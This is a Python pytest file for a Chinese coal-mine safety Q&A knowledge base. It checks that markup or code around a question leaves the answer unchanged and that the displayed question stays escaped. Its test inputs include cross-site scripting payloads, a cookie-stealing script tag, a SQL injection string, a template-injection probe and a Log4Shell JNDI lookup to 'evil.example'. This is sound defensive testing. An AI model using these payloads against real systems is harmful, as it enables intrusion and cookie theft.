"""Markup or code pasted around a question does not change its answer (kb.noise): 瓦斯超限怎么办 was answered,
瓦斯超限怎么办<img src=x onerror=alert("q")> got 没有找到 (img, src, onerror, alert counted as things
the library does not know). ASCII a question may hold (CH4, 1.5%, AND) reads as before, and what is
shown stays escaped."""

from __future__ import annotations

import pytest

from kb.noise import without_noise
from kb.qa import ask

PLAIN = "甲烷浓度达到1.5%怎么办"
NOISE = [
    '<img src=x onerror=alert("q")>',
    "<script>alert(document.cookie)</script>",
    "&lt;b&gt;&amp;nbsp;",
    "' OR 1=1 --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<img src=x onerror=alert(1)",  # cut off
]


def shown(answer) -> tuple:  # noqa: ANN001 - a kb.qa.Answer
    return (answer.answered, answer.confidence, answer.citation, answer.sentences,
            [h.article_id for h in answer.alternatives])


@pytest.mark.parametrize("noise", NOISE)
def test_markup_or_code_after_or_before_the_question_changes_nothing(kb, noise) -> None:
    plain = ask(kb, PLAIN)
    assert plain.answered and plain.citation == "《煤矿安全规程》第一百九十三条"
    for typed in (PLAIN + noise, noise + PLAIN):
        noisy = ask(kb, typed)
        assert shown(noisy) == shown(plain), typed
        assert noisy.question == typed  # the question as typed, shown escaped by the pages


def test_tags_inside_the_question_go_and_its_words_join() -> None:
    assert without_noise("<b>瓦斯</b>超限<br/>怎么办", lambda w: False) == "瓦斯超限怎么办"


def test_ascii_a_question_may_hold_stays() -> None:
    def known(word: str) -> bool:
        return word in {"co", "kv"}

    for typed in ("CH4超过1%怎么办", "瓦斯 AND 甲烷", "O2低于18%咋办", "风速4m/s行不行", "10kV电缆"):
        assert without_noise(typed, known) == typed
    # …and inside code, the words the library knows and the quantities
    assert without_noise('"CO"浓度=24ppm alert(1)', known).split() == ["CO", "浓度", "24ppm"]
    assert without_noise("H2S浓度<img src=x>", known) == "H2S浓度"


def test_an_answer_to_a_question_with_markup_is_shown_escaped(kb) -> None:
    answer = ask(kb, "入井前能喝酒吗<img src=x onerror=alert(1)>")
    assert answer.answered
    assert "<img" not in str(answer.answer_html)
    assert "<img" not in "".join(str(h.snippet) for h in answer.alternatives)
    assert answer.to_json()["question"].endswith("<img src=x onerror=alert(1)>")


@pytest.mark.parametrize("noise", NOISE)
def test_markup_or_code_around_a_search_changes_no_result(kb, noise) -> None:
    plain = kb.search(PLAIN)
    assert plain.hits
    for typed in (PLAIN + noise, noise + PLAIN):
        noisy = kb.search(typed)
        assert [h.article_id for h in noisy.hits] == [h.article_id for h in plain.hits], typed
        assert noisy.message == plain.message and noisy.query == typed
